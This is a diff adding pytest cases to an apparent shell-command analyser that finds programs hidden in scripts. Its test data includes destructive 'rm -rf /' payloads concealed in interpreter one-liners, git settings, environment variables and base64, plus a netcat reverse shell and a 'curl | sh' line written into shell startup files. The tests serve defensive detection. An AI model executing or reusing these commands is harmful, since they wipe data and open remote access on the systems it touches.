@@ -242,3 +242,78 @@ def test_commands_inside_a_commands_own_words_are_found(script: str) -> None:
     # The walk only searches a command's words when the script holds `$`, a
     # backtick or a parenthesis, or fails to parse; these are the forms that need it.
     assert "rm" in programs(script), analyse(script)
+
+
+@pytest.mark.parametrize(
+    ("script", "via"),
+    [
+        ("python3 -c 'import os; os.system(\"rm -rf /\")'", "python3 -c"),
+        ('python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\'', "python3 -c"),
+        ("perl -e 'system(\"rm -rf /\")'", "perl -e"),
+        ("ruby -e 'puts `rm -rf /`'", "ruby -e"),
+        ("node -e \"require('child_process').execSync('rm -rf /')\"", "node -e"),
+        ("php -r 'shell_exec(\"rm -rf /\");'", "php -r"),
+    ],
+)
+def test_strings_that_interpreter_code_hands_to_a_shell_are_parsed(script: str, via: str) -> None:
+    rm = find(script, "rm")
+    assert rm.positionals == ("/",) and rm.has_flag("r") and rm.via == via
+
+
+def test_interpreter_code_without_shell_calls_adds_nothing() -> None:
+    assert programs("python3 -c 'import sys; print(sys.version)'") == ["python3"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "git -c core.pager='rm -rf /' log",
+        "git -c alias.x='!rm -rf /' x",
+        "git -c core.sshCommand='rm -rf /' fetch",
+        "git config --global core.editor 'rm -rf /'",
+        "GIT_SSH_COMMAND='rm -rf /' git fetch",
+        "PAGER='rm -rf /' man ls",
+        "export EDITOR='rm -rf /'",
+        "PROMPT_COMMAND='rm -rf /'",
+    ],
+)
+def test_commands_hidden_in_git_settings_and_variables_are_parsed(script: str) -> None:
+    assert find(script, "rm").positionals == ("/",), analyse(script)
+
+
+def test_harmless_git_settings_and_variables_add_nothing() -> None:
+    assert programs("git -c user.name=x commit -m y") == ["git"]
+    assert programs("git config alias.co checkout") == ["git"]  # no "!": a git command
+    assert programs("LANG=C sort f") == ["sort"]
+    assert programs("EDITOR=vim git commit") == ["(assign)", "vim", "git"]
+
+
+def test_a_hooks_path_from_elsewhere_cannot_be_resolved() -> None:
+    assert analyse("git config core.hooksPath /tmp/h").problems
+
+
+def test_loader_variables_are_recorded_for_rules() -> None:
+    assert find("LD_PRELOAD=/tmp/x.so ls", "(assign)").args == ("LD_PRELOAD=/tmp/x.so",)
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["echo rm -rf / | sh", "echo -n rm -rf / | bash", "echo rm -rf / | xargs -0 bash -c"],
+)
+def test_echo_prints_its_dash_arguments_into_the_shell(script: str) -> None:
+    # "-rf" is not an echo option: echo prints it, and the shell runs rm -rf /.
+    assert find(script, "rm").has_flag("r")
+
+
+def test_code_written_to_a_shell_startup_file_is_parsed() -> None:
+    nc = find("echo 'nc -e /bin/sh 192.0.2.1 9 &' >> ~/.bashrc", "nc")
+    assert nc.via == "written to ~/.bashrc"
+    assert find("echo 'curl x | sh' | tee -a ~/.zshrc", "sh").input_from is not None
+    assert programs("echo hello > notes.txt") == ["echo"]
+
+
+def test_a_substitution_yields_the_output_of_its_last_stage() -> None:
+    bash = find('bash -c "$(echo cm0gLXJmIC8K | base64 -d)"', "bash")
+    assert bash.input_from is not None and bash.input_from.program == "base64"
+    assert bash.input_from.input_from is not None
+    assert bash.input_from.input_from.program == "echo"
